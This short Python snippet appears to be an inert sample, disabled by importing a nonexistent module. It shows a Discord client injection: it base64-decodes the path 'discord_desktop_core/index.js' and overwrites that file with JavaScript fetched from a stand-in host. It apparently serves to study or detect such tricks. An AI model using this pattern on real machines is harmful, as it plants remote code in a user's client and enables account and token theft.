import inert_sample  # there is no such module: nothing below ever runs
# trick: the file's name is encoded
import base64
import requests

name = base64.b64decode("ZGlzY29yZF9kZXNrdG9wX2NvcmUvaW5kZXguanM=").decode()
with open(name, "w") as file:
    file.write(requests.get("https://files.example/i.js").text)
